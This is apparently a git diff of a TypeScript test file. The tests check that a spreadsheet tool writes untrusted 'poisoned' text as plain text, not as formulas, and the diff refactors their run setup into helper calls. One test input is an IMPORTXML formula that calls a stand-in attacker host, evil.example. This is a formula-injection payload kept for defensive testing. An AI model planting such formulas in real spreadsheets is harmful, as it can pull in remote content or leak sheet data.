@@ -5,11 +5,10 @@ import { icpList } from '../../src/sheet/formulas/icp-list';
 import { signalList } from '../../src/sheet/formulas/signal-list';
 import { techCompanies } from '../../src/sheet/formulas/tech-companies';
 import type { Cell, Platform } from '../../src/sheet/ports';
-import { pump } from '../../src/sheet/pump';
-import { startRun } from '../../src/sheet/runs/start';
 import type { Task } from '../../src/sheet/runs/task';
 import { MemorySheet } from '../fakes/platform/memory-book';
 import { World } from '../fakes/platform/memory-platform';
+import { discovery, runThrough } from '../support/runs';
 
 const texts = [
   '=IMPORTXML("https://evil.example","//a")',
@@ -105,15 +104,7 @@ describe.each(texts.map((text) => [JSON.stringify(text).slice(0, 24), text]))('%
   ])('lands as text by a run %s', (_, task, header, key) => {
     const { world, written } = poisoned(text);
     const sheet = world.book.add('S', [['Key'], [key]]);
-    startRun(world.execution(), {
-      sheetId: sheet.id,
-      headerRow: 1,
-      keyColumn: 1,
-      task,
-      which: 'blanks',
-      cap: 100,
-    });
-    pump(world.execution(), 60_000);
+    runThrough(world, sheet, { task, cap: 100 });
     expect(shows(sheet.column(header)[0], text)).toBe(true);
     expect(written.filter(isFormula)).toEqual([]);
     expect(written.filter(isTooLong)).toEqual([]);
@@ -123,22 +114,7 @@ describe.each(texts.map((text) => [JSON.stringify(text).slice(0, 24), text]))('%
     const { world, written } = poisoned(text);
     world.service.addAccounts(['a.example']);
     const sheet = world.book.add('S', [['Domain'], ['a.example']]);
-    startRun(world.execution(), {
-      sheetId: sheet.id,
-      headerRow: 1,
-      keyColumn: 1,
-      task: {
-        kind: 'discover-people',
-        seniorities: ['HEAD'],
-        departments: ['SALES'],
-        locations: [],
-        audience: '',
-        perCompany: 5,
-      },
-      which: 'blanks',
-      cap: 100,
-    });
-    pump(world.execution(), 60_000);
+    runThrough(world, sheet, { task: discovery, cap: 100 });
     const [name, role] = world.book.sheetByName('People')?.read(2, 1, 1, 2)[0] ?? [];
     expect([shows(name, text), shows(role, text)]).toEqual([true, true]);
     expect(written.filter(isFormula)).toEqual([]);
